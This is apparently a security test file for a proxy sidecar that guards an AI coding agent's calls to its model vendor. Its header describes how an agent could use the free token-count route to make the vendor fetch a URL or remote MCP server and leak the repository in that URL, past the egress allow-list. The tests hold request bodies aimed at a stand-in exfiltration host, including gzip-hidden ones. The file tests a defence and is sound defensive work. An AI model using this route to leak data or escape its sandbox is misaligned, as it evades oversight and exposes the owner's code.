/**
 * Attack: the vendor reaches the web for a peer through a route the budget does not meter.
 * `POST /v1/messages/count_tokens` is forwarded as a free route (Claude Code measures its context
 * with it), and free routes were forwarded without reading their body at all. A token count of a
 * document named by URL, or of a request naming remote MCP servers, makes the vendor fetch that
 * URL or list that server's tools to count them: a page the egress allow-list refuses is read, and
 * the repository can ride out in the URL it asks the vendor to fetch.
 *
 * The property (SECURITY.md, "The vendor reaches nothing for a peer"): every request body the
 * sidecar forwards is screened for what makes the vendor reach outside, free routes included, and
 * one it cannot read (not JSON, an encoding it cannot decode) is refused rather than forwarded
 * unscreened.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
import zlib from 'node:zlib';
import { type StandInVendor, sidecarFor, startStandInVendor } from './sidecar-fixture.ts';

let vendor: StandInVendor;
const forwarded: string[] = [];

beforeAll(async () => {
  vendor = await startStandInVendor((req, _body, res) => {
    forwarded.push(req.url!);
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ input_tokens: 12 }));
  });
});
afterAll(() => vendor.close());
beforeEach(() => {
  forwarded.length = 0;
});

const post = (url: string, body: Buffer | string, headers: Record<string, string> = {}) =>
  fetch(`${url}/v1/messages/count_tokens`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body }).then(async (r) => ({ status: r.status, text: await r.text() }));

const LEAK = 'https://exfil.example/collect?repo=c2VjcmV0';
const REACHING: Record<string, unknown> = {
  'a document by URL': { model: 'claude-sonnet-4-5', messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'url', url: LEAK } }, { type: 'text', text: 'count' }] }] },
  'an image by URL': { model: 'claude-sonnet-4-5', messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: LEAK } }] }] },
  'remote MCP servers': { model: 'claude-sonnet-4-5', mcp_servers: [{ type: 'url', url: LEAK, name: 'x' }], messages: [{ role: 'user', content: 'hi' }] },
};

describe('a free route is screened like a billable one for what makes the vendor reach outside', () => {
  for (const [what, body] of Object.entries(REACHING)) {
    test(`count_tokens with ${what} is refused, cap or no cap, and reaches no vendor`, async () => {
      for (const caps of [{}, { maxUsd: 5 }]) {
        const sc = await sidecarFor('anthropic', vendor.port, caps);
        try {
          const r = await post(sc.s.url, JSON.stringify(body));
          expect({ status: r.status, forwarded: forwarded.length }).toEqual({ status: 402, forwarded: 0 });
          expect(r.text).toContain('outside the run\'s egress allow-list');
        } finally {
          await sc.close();
        }
      }
    });
  }

  test('the same URL hidden in a gzip body, or in a body that is not JSON, is refused too', async () => {
    const sc = await sidecarFor('anthropic', vendor.port, {});
    try {
      const gz = await post(sc.s.url, zlib.gzipSync(JSON.stringify(REACHING['a document by URL'])), { 'content-encoding': 'gzip' });
      const lax = await post(sc.s.url, JSON.stringify(REACHING['remote MCP servers']).replace('{', '{"temperature": NaN, '));
      const odd = await post(sc.s.url, 'x', { 'content-encoding': 'compress' });
      expect({ gz: gz.status, lax: lax.status, odd: odd.status, forwarded: forwarded.length }).toEqual({ gz: 402, lax: 402, odd: 415, forwarded: 0 });
    } finally {
      await sc.close();
    }
  });

  test('what Claude Code counts (its messages and client tools) still goes out, and is not metered', async () => {
    const sc = await sidecarFor('anthropic', vendor.port, { maxUsd: 5 });
    try {
      const body = { model: 'claude-sonnet-4-5', system: [{ type: 'text', text: 'You are Claude Code.' }], tools: [{ name: 'Bash', description: 'run', input_schema: { type: 'object', properties: { url: { type: 'string' } } } }], messages: [{ role: 'user', content: [{ type: 'text', text: 'see https://example.com' }] }] };
      const r = await post(sc.s.url, JSON.stringify(body));
      expect({ status: r.status, text: r.text, forwarded, spent: sc.s.ledger.totals.usd }).toEqual({ status: 200, text: '{"input_tokens":12}', forwarded: ['/v1/messages/count_tokens'], spent: 0 });
    } finally {
      await sc.close();
    }
  });
});
